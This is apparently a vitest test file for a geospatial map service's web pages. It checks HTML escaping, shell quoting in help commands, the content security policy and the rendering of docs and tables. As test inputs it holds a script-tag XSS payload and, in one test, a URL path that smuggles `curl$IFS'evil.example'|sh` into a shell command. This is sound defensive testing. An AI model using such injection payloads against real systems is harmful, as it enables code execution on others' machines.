import { createHash } from 'node:crypto';
import { REPORT_STYLE } from '@headwater/accuracy/report';
import { html } from 'hono/html';
import { expect, test } from 'vitest';
import { generateOpenApi } from '../openapi/generate.ts';
import { buildOperations } from '../features/index.ts';
import { docsContent } from '../features/system/page/docs-page.ts';
import { openInQgis } from '../features/stac-api/page/item-files.ts';
import { firstPage, type FirstPageFacts } from '../features/discovery/page/first-page.ts';
import { computationsPage } from '../features/discovery/page/computations-page.ts';
import { PAGE_HEADERS, pageText, SCRIPT_HEADERS } from './layout.ts';
import { markdown } from './markdown.ts';
import { sayIn } from './texts.ts';
import { problemPage } from './problem-page.ts';
import { tablePage } from '../features/public-data/page/tables-page.ts';
import { typeText } from '../features/system/page/docs-lists.ts';
import { samplePipeline } from '../layers/sample-layer.fixture.ts';

const EVIL = '<script>alert("1")</script>';
const part = { state: 'failing', detail: EVIL } as const;
const health = {
  status: 'failing',
  version: EVIL,
  parts: { database: part, worker: part, pixels: part, scenes: part, disk: part, files: part },
} as const;

const layer = { title: EVIL, label: EVIL, href: '/geo/x' };
const COUNTS = { tehsils: 1, layers: 2 };
const FIRST: FirstPageFacts = {
  prefix: '/geo',
  language: 'en',
  lang: undefined,
  number: 1,
  places: {
    onMap: [{ path: 's/d/t', layers: 2, box: [78, 17, 79, 18] }],
    placeOf: () => ({ name: EVIL, above: EVIL, href: '/geo/c' }),
    total: COUNTS,
    states: [{ tehsils: 1, name: EVIL, href: '/geo/s' }],
    of: () => undefined,
  },
  placesAt: () => '/geo/places/',
  baseUrl: 'http://localhost:8000/geo',
  title: EVIL,
  version: EVIL,
  credits: [EVIL],
  health,
  publications: [
    {
      place: EVIL,
      where: EVIL,
      href: '/geo/c',
      published: '',
      picture: { ...layer, src: '/geo/a.png' },
      layers: [layer],
      leads: undefined,
    },
  ],
  pages: { older: '?before=1' },
  hasGuide: false,
  computesRegions: true,
};

test('external text is escaped on the first page', async () => {
  const page = String(await firstPage(FIRST));
  expect(page.split('<script')).toHaveLength(2);
  expect(page).toContain('&lt;script&gt;alert(&quot;1&quot;)&lt;/script&gt;');
  expect(page).toContain('href="/geo/docs/"');
  expect(page).toContain('http://localhost:8000/geo/api/v1/stac-api/');
  expect(page).toContain('src="/geo/a.png"');
});

test('the list of computations quotes its commands for a shell, and escapes all texts', async () => {
  const computation = {
    id: 'sample',
    title: EVIL,
    theme: EVIL,
    summary: EVIL,
    path: '/api/v1/sample/',
    operation: 'compute_sample',
    sources: [EVIL],
    makers: [{ title: EVIL, href: '#other' }],
    data: [EVIL],
    sign: EVIL,
    lang: 'en' as const,
    body: { state: `${EVIL} it's` },
    picture: undefined,
    form: undefined,
  };
  const facts = {
    prefix: '/geo',
    baseUrl: 'http://localhost/geo',
    version: EVIL,
    language: 'en',
    lang: undefined,
    reference: '/docs/plain/',
  } as const;
  const page = String(await computationsPage({ ...facts, computations: [computation] }));
  expect(page.split('<script')).toHaveLength(2);
  expect(page).toContain('href="/geo/docs/plain/#compute_sample"');
  // An unescaped single quote would end the quoted text in a shell.
  expect(page).toContain(`it&#39;\\&#39;&#39;s`);
});

test('the first page without publications has the configured title, and mentions no land cover', async () => {
  const page = String(await firstPage({ ...FIRST, title: 'Maps', publications: [] }));
  expect(page).toContain('<h1>Maps</h1>');
  expect(page).toContain('Nothing is published yet');
  expect(page).not.toMatch(/land cover/i);
});

test('the problem page shows the message, escaped, with links to other pages', () => {
  const problem = {
    shell: { language: 'en' as const },
    title: 'Unauthorized',
    message: EVIL,
    requestId: EVIL,
    baseUrl: 'http://localhost/geo',
    path: EVIL,
  };
  const page = problemPage({ ...problem, status: 401 });
  expect(page).not.toContain('<script');
  expect(page).toContain('href="/geo/api/v1/stac/"');
  expect(page).toContain('TOKEN=$(curl -sS http://localhost/geo/api/v1/auth/login/ ');
  expect(problemPage({ ...problem, status: 404 })).not.toContain('curl');
});

test('the command of the problem page quotes the requested address as one shell word', () => {
  const path = "/api/v1/runs/;curl$IFS'evil.example'|sh;/";
  const shell = { language: 'en' as const };
  const page = problemPage({ shell, title: 'T', message: 'm', requestId: 'r', baseUrl: 'http://h', path, status: 401 });
  const line = page
    .replaceAll('&#39;', "'")
    .split('\n')
    .find((text) => text.includes('evil'));
  expect(line).toContain(` 'http://h/api/v1/runs/;curl$IFS'\\''evil.example'\\''|sh;/' -H`);
});

test('the QGIS instructions depend on the format: a raster is read in parts, a GeoJSON as a whole', async () => {
  const file = {
    title: 'Layer',
    kind: 'GeoTIFF',
    label: 'GeoTIFF',
    href: '/x',
    address: 'http://h/x',
    latest: 'http://h/latest/x',
  };
  const shown = async (layer: 'raster' | 'vector') =>
    String(await openInQgis([{ ...file, name: 'x', bytes: 1, isMain: true, layer }], sayIn('en')));
  expect(await shown('raster')).toContain('only the parts that are visible.');
  expect(await shown('vector')).toContain('the whole file each time you open it.');
  expect(await shown('vector')).not.toContain('parts');
});

test('descriptions are rendered as Markdown, and scripts in them do not run', async () => {
  const text = `**Bold** and \`code\`\n\n- one ${EVIL}\n- two\n\n| a | b |\n|---|---|\n| 1 | **2** |\n\nlast`;
  const page = String(await markdown(text, 3)).replace(/\s+/g, ' ');
  expect(page).toContain('<p><strong>Bold</strong> and <code>code</code></p>');
  expect(page).toContain('<li>one &lt;script&gt;');
  expect(page).toContain('<th scope="col">a</th>');
  expect(page).toContain('<td><strong>2</strong></td>');
  expect(page).toMatch(/<details>.*<p>last<\/p>/);
  expect(page).not.toContain('<script');
});

test('the security policy allows only the styles of pages and reports, and a script only on pages that have one', async () => {
  const page = String(await firstPage(FIRST));
  const sha256 = (text: string): string => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
  const hashOf = (tag: string): string =>
    sha256(new RegExp(`<${tag}[^>]*>([\\s\\S]*?)</${tag}>`).exec(page)?.[1] ?? '');
  const withScript = SCRIPT_HEADERS['content-security-policy'];
  expect(withScript).toContain(`default-src 'none'; style-src ${hashOf('style')} ${sha256(REPORT_STYLE)};`);
  expect(withScript).toContain(`script-src ${hashOf('script')};`);
  expect(withScript).not.toContain('unsafe');
  expect(PAGE_HEADERS['content-security-policy']).not.toContain('script-src');
});

test('the reference shows every operation of the document, and every schema link has a target', async () => {
  const document = generateOpenApi(buildOperations([samplePipeline]), '1');
  const page = String(await docsContent(document, { baseUrl: 'http://localhost' }));
  for (const row of buildOperations([samplePipeline])) expect(page).toContain(`id="${row.id}"`);
  const links = [...page.matchAll(/href="#([^"]+)"/g)].map(([, id]) => id);
  for (const id of links) expect(page).toContain(`id="${id}"`);
});

test('typeText describes a schema', () => {
  expect(typeText({ type: 'object', properties: { a: { type: 'integer', minimum: 1 } }, required: ['a'] })).toBe(
    '{ a: integer 1.. }',
  );
  expect(typeText({ anyOf: [{ $ref: '#/components/schemas/Run' }, { type: 'null' }] })).toBe('Run | null');
  expect(typeText({ type: 'array', items: { enum: ['x', 1] } })).toBe('("x" | 1)[]');
});

test('a table shows its first rows and its columns, and scripts in it do not run', async () => {
  const column = { name: 'area', unit: 'ha', description: EVIL, isNumber: true };
  const page = String(
    await tablePage({
      shell: { language: 'en' },
      prefix: '',
      name: 'sheet',
      above: [{ title: EVIL, href: '/' }],
      layer: { title: 'layer', href: '/layer/' },
      validation: undefined,
      key: 'uid',
      columns: [{ name: 'uid', unit: '', description: 'Micro-watershed', isNumber: false }, column],
      rows: [
        ['12_1', '3.5'],
        [EVIL, ''],
      ],
      rowCount: 7,
      published: '22 November 2026',
      tableVersion: '2',
      self: 'http://h/tables/sheet/',
      csv: '/tables/sheet/?format=csv',
      version: '1',
    }),
  ).replace(/\s+/g, ' ');
  expect(page).toContain('7 rows of 2 columns. The page shows the first 2; the files have all rows.');
  expect(page).toContain('<th scope="row">12_1</th><td class="num">3.5</td>');
  expect(page).not.toContain(EVIL);
});

test('links to other pages keep the language of the address; other links stay as they are', () => {
  const body = [
    '/geo/places/',
    '/geo/places/?q=x#found',
    '/geo/docs/?lang=en',
    '/geo/table/?format=csv',
    '/geo/assets/a.tif',
    '/else/',
    '//evil.example/',
    'https://other.example/',
    '#main',
  ].map((href) => html`<a class="x" href="${href}">x</a>`);
  const parts = { title: 't', description: 'd', prefix: '/geo', body: html`${body}` };
  const shown = (query: string) =>
    [...pageText({ ...parts, query }).matchAll(/<a class="x" href="([^"]*)"/g)].map(([, href]) => href);
  expect(shown('lang=hi')).toEqual([
    '/geo/places/?lang=hi',
    '/geo/places/?q=x&amp;lang=hi#found',
    '/geo/docs/?lang=en',
    '/geo/table/?format=csv',
    '/geo/assets/a.tif',
    '/else/',
    '//evil.example/',
    'https://other.example/',
    '#main',
  ]);
  expect(shown('q=hi')[0]).toBe('/geo/places/');
});
